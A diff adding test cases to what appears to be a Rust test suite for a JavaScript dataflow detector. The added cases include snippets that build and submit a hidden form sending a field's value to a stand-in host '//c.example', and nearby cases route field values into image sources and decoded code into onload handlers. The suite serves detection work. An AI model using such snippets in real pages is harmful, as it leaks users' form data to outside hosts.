@@ -57,6 +57,21 @@ fn values_are_followed_to_where_they_go() {
         ("by a pattern that renames", "const {value:v='',name}=e.target;i.src=v", "Field>Fetched"),
         ("by a pattern in a pattern", "const {target:{value}}=e;i.src=value", "Field>Fetched"),
         ("by a pattern of a loop", "for(const {name,value} of q.elements)i.src=value", "Field>Fetched"),
+        (
+            "by a form that is made",
+            "var f=document.createElement('form');f.action='//c.example';var i=document.createElement('input');i.setAttribute('value',q.value);f.appendChild(i);f.submit()",
+            "Field+Address>FormTarget",
+        ),
+        (
+            "not by a page",
+            "var p=document.createElement('p');p.title=q.value;document.body.appendChild(p);i.src=document.body",
+            "",
+        ),
+        (
+            "by a form that is made of keys",
+            "var f=Object.assign(document.createElement('form'),{action:'//c.example'});f.append(Object.assign(document.createElement('input'),{value:q.value}));f.submit()",
+            "Field+Address>FormTarget Field>Amount",
+        ),
         ("into a handler", "i.setAttribute('onload',atob(t))", "Decoded>Code"),
         ("into a text of a handler", "i.setAttribute('onclick','go('+atob(t)+')')", ""),
         (
